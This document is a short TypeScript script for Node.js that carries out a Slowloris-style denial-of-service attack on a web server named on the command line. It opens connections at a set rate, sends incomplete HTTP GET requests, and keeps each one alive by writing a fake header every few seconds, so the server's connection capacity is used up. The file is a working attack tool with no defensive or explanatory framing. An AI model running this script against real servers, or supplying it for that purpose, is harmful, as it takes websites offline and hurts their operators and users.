// Opens requests and never ends them: a header line now and then keeps each alive.
// Arguments: web server, connections, connections opened per second.
import { connect } from 'node:net';

const LINE_MS = 4000;
const [server = '', connections = '1', perSecond = '1'] = process.argv.slice(2);

let opened = 0;
const opening = setInterval(
  () => {
    if (opened++ >= Number(connections)) clearInterval(opening);
    else open();
  },
  1000 / Number(perSecond),
);

function open(): void {
  const socket = connect(80, server);
  socket.on('error', () => undefined);
  socket.write(`GET /0.html HTTP/1.1\r\nHost: ${server}\r\n`);
  const lines = setInterval(() => socket.write(`X-${Date.now() % 1000}: 1\r\n`), LINE_MS);
  socket.on('close', () => {
    clearInterval(lines);
  });
}
